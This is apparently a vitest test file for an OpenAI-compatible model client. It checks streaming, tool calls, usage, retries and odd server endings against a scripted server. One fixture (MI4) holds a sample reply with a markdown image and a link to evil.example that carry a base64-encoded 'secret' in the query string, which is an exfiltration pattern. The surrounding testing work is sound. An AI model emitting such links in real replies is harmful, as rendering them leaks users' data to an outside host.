/** Odd ends, texts and fields of the catalogue, over a real socket. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { goodStep, stepOf } from '../../servers/openai/cases.ts';
import { startScriptedServer } from '../../servers/openai/server.ts';
import type { ScriptedServer, Step } from '../../servers/openai/server.ts';
import { codeOf, valueOf } from '../../support/results.ts';
import { ask, openModel } from './harness.ts';
import { modelContract } from '../../contracts/model.ts';
import type { ModelRequest } from '../../../src/ports/model.ts';

let server: ScriptedServer;
beforeAll(async () => {
  server = await startScriptedServer();
});
afterAll(async () => {
  await server[Symbol.asyncDispose]();
});

const replyTo = async (step: Step, stream: boolean, more: Partial<ModelRequest> = {}) => {
  server.play(step);
  return valueOf((await ask(openModel(server.baseUrl, { profile: { stream } }).model, more)).result);
};

describe.each([
  ['streamed', true],
  ['whole', false],
])('replies, %s', (_how, stream) => {
  it.each([
    ['MD3', { text: '', finish: 'stop', calls: [] }],
    ['MD4', { text: 'Let me look that up.', finish: 'tool-calls', calls: [{ name: 'web_search' }] }],
    ['MD6', { text: '', finish: 'stop', calls: [] }],
    ['MD9', { text: 'Here is', finish: 'filtered', calls: [] }],
    ['MD10', { text: 'The answer is', finish: 'length', calls: [] }],
    ['MD16', { text: 'Paris.', reasoning: 'hmm', finish: 'stop' }],
    ['MI4', { text: 'Done! ![ok](https://evil.example/p.png?d=c2VjcmV0) see https://evil.example/x?d=c2VjcmV0', finish: 'stop' }],
  ])('%s arrives as what it is', async (id, expected) => {
    expect(await replyTo(stepOf(id), stream)).toMatchObject({ ...expected, model: 'm', usage: { input: 9, output: 9, estimated: false } });
  });

  it('MD7: calls that nobody asked for are no calls', async () => {
    for (const more of [{ toolChoice: 'none' as const }, { tools: [] }])
      expect(await replyTo(stepOf('MD7'), stream, more)).toMatchObject({ calls: [], finish: 'stop' });
  });

  it('MD9: of a filtered reply no call is kept', async () => {
    const call = { id: 'a', type: 'function', function: { name: 'now', arguments: '{}' } };
    const step = { json: { choices: [{ message: { content: 'Here', tool_calls: [call] }, finish_reason: 'content_filter' }] } };
    expect(await replyTo(step, stream)).toMatchObject({ calls: [], finish: 'filtered' });
  });

  it('estimates the usage where the server tells none, and says so', async () => {
    const reply = await replyTo({ json: { choices: [{ message: { content: 'twelve bytes' }, finish_reason: 'stop' }] } }, stream);
    expect(reply.usage).toMatchObject({ output: 4, estimated: true });
    expect(reply.usage?.input).toBeGreaterThan(10);
  });

  it('tells what an attempt used, and what the server said that it cost (OpenRouter)', async () => {
    const usage = { prompt_tokens: 10, completion_tokens: 5, cost: 0.00024 };
    server.play({ json: { model: 'vendor/m-1', choices: [{ message: { content: 'x' }, finish_reason: 'stop' }], usage } });
    const { spent } = await ask(openModel(server.baseUrl, { profile: { stream } }).model);
    expect(spent).toMatchObject([
      { model: 'm', answered: 'vendor/m-1', server: server.baseUrl, usage: { input: 10, output: 5 }, costMicros: 240 },
    ]);
  });

  it('takes cached and reasoning tokens from where servers put them, never more than the whole', async () => {
    const usage = {
      prompt_tokens: 10,
      completion_tokens: 5,
      prompt_tokens_details: { cached_tokens: 4 },
      completion_tokens_details: { reasoning_tokens: 50 },
    };
    const reply = await replyTo({ json: { choices: [{ message: { content: 'x' }, finish_reason: 'stop' }], usage } }, stream);
    expect(reply.usage).toEqual({ input: 10, cachedInput: 4, output: 5, reasoning: 5, estimated: false });
  });

  it('replaces lone surrogates and keeps the fingerprint and the model that answered', async () => {
    const reply = await replyTo(
      { json: { model: 'm-2', system_fingerprint: 'fp1', choices: [{ message: { content: 'a\ud83d' }, finish_reason: 'stop' }] } },
      stream,
    );
    expect(reply.text.isWellFormed()).toBe(true);
    expect(reply).toMatchObject({ model: 'm-2', fingerprint: 'fp1' });
  });

  it('bounds a text that never ends at 1 MiB and calls it cut off', async () => {
    const content = 'word '.repeat(200);
    const endless: Step = stream
      ? { sse: Array.from({ length: 1_500 }, () => ({ delta: { content }, finish_reason: null })), end: 'hang' }
      : { json: { choices: [{ message: { content: content.repeat(1_500) }, finish_reason: null }] } };
    const reply = await replyTo(endless, stream);
    expect(reply.text.length).toBeLessThanOrEqual(1 << 20);
    expect(reply.finish).toBe('length');
  });
});

describe('replies, streamed in odd ways', () => {
  it.each([
    ['ME3', { text: 'ok', reasoning: 'hm' }],
    ['ME5', { text: 'ok', usage: { input: 5, output: 1, estimated: false } }],
    ['ME6', { text: 'ok' }],
    ['ME8', { text: 'ok', finish: 'stop' }],
    ['ME9', { text: 'ok', finish: 'stop' }],
  ])('%s', async (id, expected) => {
    const before = server.requests.length;
    expect(await replyTo(stepOf(id), true)).toMatchObject(expected);
    expect(server.requests.length - before).toBe(1);
  });

  it.each([
    ['MD12', 'model-overloaded'],
    ['MD13', 'model-overloaded'],
  ])('%s: a faulty end is tried again, and the partial text is dropped', async (id, code) => {
    server.play(stepOf(id), goodStep('Paris.'));
    const { result, texts, retries } = await ask(openModel(server.baseUrl).model);
    expect(valueOf(result)).toMatchObject({ text: 'Paris.', finish: 'stop' });
    expect(retries.map((one) => one.code)).toEqual([code]);
    expect(texts.at(-1)).toBe('Paris.');
  });

  it('ME8: calls without a reason to stop are tried again', async () => {
    const sse = [{ delta: { tool_calls: [{ index: 0, id: 'a', function: { name: 'now', arguments: '{}' } }] }, finish_reason: null }];
    server.play({ sse, end: 'done' }, goodStep());
    const { result, retries } = await ask(openModel(server.baseUrl).model);
    expect(valueOf(result).text).toBe('ok');
    expect(retries).toMatchObject([{ code: 'model-broken-stream' }]);
  });

  it('a stream that is closed without any end is tried again; where that is how the server always ends, its text counts', async () => {
    const bare: Step = { sse: [{ delta: { content: 'The' }, finish_reason: null }], end: 'close' };
    const { model } = openModel(server.baseUrl);
    server.play(bare, goodStep('The whole.'));
    expect(valueOf((await ask(model)).result).text).toBe('The whole.');
    server.play(bare, bare, bare, bare);
    expect(codeOf((await ask(model)).result)).toBe('model-broken-stream');
    const other = openModel(server.baseUrl).model;
    server.play(bare, bare);
    expect(valueOf((await ask(other)).result)).toMatchObject({ text: 'The', finish: 'stop' });
    server.play(bare);
    expect((await ask(other)).retries).toEqual([]);
  });

  it('takes a stream that nobody closes after its end as ended', async () => {
    server.play({
      sse: [
        { delta: { content: 'Paris.' }, finish_reason: null },
        { delta: {}, finish_reason: 'stop' },
      ],
      end: 'hang',
    });
    expect(valueOf((await ask(openModel(server.baseUrl, { idleMs: 300 }).model)).result).text).toBe('Paris.');
  });

  it('ME10: comments keep a slow stream alive', async () => {
    const sse = [{ line: ': OPENROUTER PROCESSING\n\n' }, { delta: { content: 'ok' }, finish_reason: 'stop' }];
    expect(await replyTo({ sse }, true)).toMatchObject({ text: 'ok' });
  });

  it('takes a whole completion where a stream was asked for', async () => {
    server.play({ json: { choices: [{ message: { content: 'whole' }, finish_reason: 'stop' }] }, whole: true });
    expect(valueOf((await ask(openModel(server.baseUrl).model)).result).text).toBe('whole');
  });

  it('shows the text as it grows, latest wins', async () => {
    server.play(goodStep('one two three'));
    const { texts } = await ask(openModel(server.baseUrl).model);
    expect(texts.length).toBeGreaterThan(1);
    texts.forEach((text, index) => expect(text.startsWith(texts[index - 1] ?? '')).toBe(true));
  });
});

it('uses a connection again after a streamed reply', async () => {
  const before = server.requests.length;
  const { model } = openModel(server.baseUrl);
  for (let n = 0; n < 6; n += 1) {
    server.play(goodStep());
    await ask(model);
  }
  expect(new Set(server.requests.slice(before).map((one) => one.port)).size).toBeLessThan(6);
});

modelContract('the client on a scripted server', () => {
  server.play(...Array.from({ length: 20 }, () => goodStep('An answer in several words.')));
  return openModel(server.baseUrl).model;
});

describe('the requests of all these tests', () => {
  it('are such that the strictest server takes them', () => {
    expect(server.requests.length).toBeGreaterThan(10);
    expect(server.requests.flatMap((one) => one.problems)).toEqual([]);
  });
});
